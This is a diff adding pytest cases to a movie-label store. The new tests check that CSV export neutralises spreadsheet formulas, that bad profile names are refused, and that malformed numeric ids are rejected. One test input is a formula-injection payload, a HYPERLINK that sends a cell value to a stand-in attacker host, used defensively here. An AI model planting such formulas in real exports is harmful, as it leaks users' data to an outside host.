@@ -2,6 +2,7 @@
 SIGKILL; concurrent writers."""
 from __future__ import annotations
 
+import csv
 import io
 import os
 import signal
@@ -17,6 +18,7 @@ import pytest
 from core.errors import MarqueeError
 from core.personal.store import (SQLiteLabelStore, WOULD_NOT_WATCH, WOULD_WATCH, WOULD_WATCH_MANY,
                                  open_store)
+from core.personal.store.csv_io import FORMULA_LEADS
 from tests.conftest import PROJECT_ROOT
 
 
@@ -95,11 +97,36 @@ def test_csv_round_trip(label_store, tmp_path):
     assert mine[["movie_id", "label", "title"]].equals(theirs[["movie_id", "label", "title"]])
 
 
+@pytest.mark.parametrize("title", ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)",
+                                   "\tTab", "\rReturn", "'=already quoted"])
+def test_csv_export_neutralises_formulas_and_imports_back_unchanged(label_store, tmp_path, title):
+    s = label_store
+    s.set_label("p", "c", -1, WOULD_WATCH, title=title)  # a negative id is a number, never quoted
+    text = s.export_csv("p", "c")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["movie_id"] == "-1"
+    assert rows[0]["title"] == "'" + title
+    assert not rows[0]["title"].startswith(FORMULA_LEADS)
+    other = SQLiteLabelStore(tmp_path / "other.sqlite")
+    assert other.import_csv("q", "c", io.StringIO(text)) == 1
+    assert other.labels("q", "c")["title"].tolist() == [title]
+
+
+@pytest.mark.parametrize("name", ["ann\n", "ann\r", "a\x00b", "a\tb", "\u202eann", "", "-ann", "x" * 65])
+def test_profile_names_with_control_characters_or_bad_shape_are_refused(label_store, name):
+    with pytest.raises(MarqueeError, match="profile name"):
+        label_store.set_label(name, "c", 1, WOULD_WATCH)
+    assert label_store.profiles() == []
+
+
 @pytest.mark.parametrize("content, message", [
     ("movie_id,rating\n1,4\n", "missing column\\(s\\) label"),
     ("", "empty file"),
     ("movie_id,label\n", "no label rows"),
     ("movie_id,label\n1,would_watch\nabc,would_watch\n", "line 3, field movie_id: not an integer"),
+    ("movie_id,label\n1,would_watch\n1e20,would_watch\n", "line 3, field movie_id: '1e20' is out of the 64-bit id range"),
+    ("movie_id,label\n1,would_watch\n1e400,would_watch\n", "line 3, field movie_id: not an integer"),
+    ("movie_id,label\n1,would_watch\nnan,would_watch\n", "line 3, field movie_id: not an integer"),
     ("movie_id,label\n1,would_watch\n2,meh\n", "line 3, field label: 'meh' is not one of"),
     ("movie_id,label\n1,would_watch\n2,skip\n", "skips are not labels"),
     ("movie_id,label\n1,would_watch\n1,would_not_watch\n", "line 3, field movie_id: 1 already labeled on line 2"),
